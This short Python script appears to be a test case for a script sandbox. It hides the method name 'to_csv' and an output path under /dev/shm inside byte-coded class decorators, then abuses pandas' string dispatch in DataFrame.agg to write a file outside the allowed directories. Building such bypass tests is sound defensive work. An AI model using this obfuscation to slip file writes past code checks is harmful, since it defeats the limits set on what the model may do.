# source: pandas string dispatch (Apply.apply_str -> getattr(obj, name)(**kwargs)); decorator rebinding a class statement to a runtime value
# family: class statements rebound by script decorators are trusted as "defs/classes of this script": method name and path both smuggled
# goal: write /dev/shm/agg_pwned.csv (outside /data and script dir)
import pandas as pd

def as_text(codes):
    def deco(cls):
        return bytes(codes).decode()
    return deco

@as_text([116, 111, 95, 99, 115, 118])
class Export:
    pass

@as_text([47, 100, 101, 118, 47, 115, 104, 109, 47, 97, 103, 103, 95, 112, 119, 110, 101, 100, 46, 99, 115, 118])
class Target:
    pass

df = pd.DataFrame({"px": [1.0, 2.0]})
try:
    df.agg(Export, path_or_buf=Target)
except AttributeError:
    pass
print("written")
